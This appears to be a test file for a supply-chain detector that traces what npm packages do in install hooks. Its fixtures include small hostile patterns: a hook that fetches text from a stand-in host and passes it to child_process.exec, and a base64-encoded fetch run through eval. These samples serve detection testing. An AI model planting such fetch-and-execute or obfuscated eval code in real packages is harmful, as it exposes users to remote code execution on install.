import { labelNames } from '@weir/code';
import type { CodeUnit } from '@weir/detectors';
import { expect, test } from 'vitest';
import { type Files, graphOf, withHook } from './testing/graph-of.ts';

const RUN = "exports.run = (line) => require('child_process').exec(line);\n";
const GET = "exports.get = async () => (await fetch('https://a.example/tool')).text();\n";

async function unitsOf(files: Files): Promise<ReadonlyMap<string, CodeUnit>> {
  const { units } = await graphOf(files);
  return new Map(units.map((unit) => [unit.layer === null ? unit.file : `${unit.file} ${unit.layer}`, unit]));
}

/** What reaches the command that a file starts. */
function startedBy(unit: CodeUnit | undefined): string[] {
  return (unit?.facts.flow.flows ?? []).flatMap(({ sink, labels }) =>
    sink === 'command' ? labelNames(labels) : [],
  );
}

test('what one file fetches and another starts is followed through the one that joins them', async () => {
  const units = await unitsOf({
    'package.json': withHook('node setup.js'),
    'setup.js': "const { run } = require('./lib/run');\nrequire('./lib/get').get().then(run);\n",
    'lib/run.js': RUN,
    'lib/get.js': GET,
  });
  expect(startedBy(units.get('lib/run.js'))).toContain('network');
});

test('a command whose words another file has starts what it names', async () => {
  const units = await unitsOf({
    'package.json': withHook('node setup.js'),
    'setup.js': "const { tool } = require('./names');\nrequire('./run').run('node ' + tool);\n",
    'names.js': "exports.tool = './lib/' + 'work.js';\n",
    'run.js': RUN,
    'lib/work.js': "require('./deep').go();\n",
    'lib/deep.js': "exports.go = () => fetch('https://a.example/');\n",
  });
  expect(units.get('lib/deep.js')?.stage).toBe('install');
});

/** Writes where another file says. */
const STORE =
  "const { join } = require('path');\nexports.put = ({ root, name }) => require('fs').writeFileSync(join(root, name), '');\n";

test('a path of which another file has a part is told as a whole', async () => {
  const units = await unitsOf({
    'package.json': withHook('node setup.js'),
    'setup.js': "require('./store').put({ root: process.cwd(), name: '.own/flow.yml' });\n",
    'store.js': STORE,
  });
  const paths = units.get('store.js')?.facts.fileActions.flatMap((action) => action.paths);
  expect(paths).toContain('$CWD/.own/flow.yml');
});

test('and one beside the code is not: that is the package itself, which its hook may set up', async () => {
  const units = await unitsOf({
    'package.json': withHook('node setup.js'),
    'setup.js': "require('./store').put({ root: __dirname, name: 'package.json' });\n",
    'store.js': STORE,
  });
  const paths = units.get('store.js')?.facts.fileActions.flatMap((action) => action.paths);
  expect(paths).toEqual(['$UNKNOWN/$UNKNOWN']);
});

test('a text that another file has and that runs as code is read', async () => {
  const hidden = Buffer.from("fetch('https://a.example/')").toString('base64');
  const units = await unitsOf({
    'package.json': { bin: { own: 'cli.js' } },
    'cli.js': "const { blob } = require('./blob');\neval(Buffer.from(blob, 'base64').toString());\n",
    'blob.js': `exports.blob = '${hidden}';\n`,
  });
  const layer = units.get('cli.js base64');
  expect(layer?.source.text).toBe("fetch('https://a.example/')");
});

test('what a command does later does not run when the package is imported', async () => {
  const units = await unitsOf({
    'package.json': { main: 'index.js', bin: { own: 'cli.js' } },
    'index.js': "module.exports = require('./run');\n",
    'run.js': RUN,
    'cli.js': "require('./run').run('id');\n",
  });
  expect(units.get('run.js')?.facts.commands.map(({ line, live }) => [line, live])).toEqual([['id', false]]);
});

test('of a large package what runs first is followed', async () => {
  const filler = `module.exports = { ${Array.from({ length: 4_000 }, (_, i) => `member${i}: ${i}`).join(', ')} };\n`;
  const many = Object.fromEntries(Array.from({ length: 6 }, (_, i) => [`data/d${i}.js`, filler]));
  const units = await unitsOf({
    'package.json': withHook('node setup.js', { main: 'index.js' }),
    'index.js':
      Object.keys(many)
        .map((path) => `require('./${path}');\n`)
        .join('') + "require('./lib/run');\n",
    ...many,
    'setup.js': "const { run } = require('./lib/run');\nrequire('./lib/get').get().then(run);\n",
    'lib/run.js': RUN,
    'lib/get.js': GET,
  });
  expect(startedBy(units.get('lib/run.js'))).toContain('network');
});
